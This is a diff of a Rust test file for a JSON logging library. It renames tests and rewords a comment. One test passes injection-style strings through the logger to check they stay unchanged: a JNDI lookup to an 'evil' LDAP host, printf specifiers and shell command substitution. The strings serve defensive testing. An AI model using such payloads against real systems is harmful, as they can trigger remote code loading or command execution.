@@ -120,7 +120,7 @@ fn name() -> impl Strategy<Value = String> {
     ]
 }
 
-/// JSON of somebody else's making.
+/// JSON that another writer made.
 const RAW: [&str; 5] =
     ["{\"a\":1,\"a\":2}", "[ 1 ,\n2 ]", "\"\u{2028}\u{202e}\"", "{\"a\":{\"\\u0062\":1,\"b\":[]}}", "\"\\u001b\""];
 
@@ -306,7 +306,7 @@ proptest! {
 }
 
 #[test]
-fn promise_36_what_looks_like_a_pattern_comes_out_as_it_went_in() {
+fn promise_36_text_that_looks_like_a_pattern_is_unchanged() {
     for text in
         ["${jndi:ldap://evil/a}", "{}", "{0} {name} {:?}", "%n %s %d %%", "$(id) `id` $HOME", "<b>&amp;</b>", "\\n"]
     {
@@ -403,7 +403,7 @@ fn every_switch_of_flat_adds_its_key() {
 
 /// A reader that holds numbers in 64 bits would refuse the whole line.
 #[test]
-fn promise_31_a_number_beyond_all_readers_in_somebody_elses_json_becomes_text() {
+fn promise_31_a_number_too_large_for_readers_in_raw_json_becomes_text() {
     let raw: Box<serde_json::value::RawValue> = serde_json::from_str("[1e400,{\"a\":-1E+309},1e-400,1e308]").unwrap();
     let lines = lines(|| info!(raw = spanline::json(&raw), "numbers"));
     assert_eq!(lines[0]["raw"], json!(["1e400", { "a": "-1E+309" }, 0.0, 1e308]));
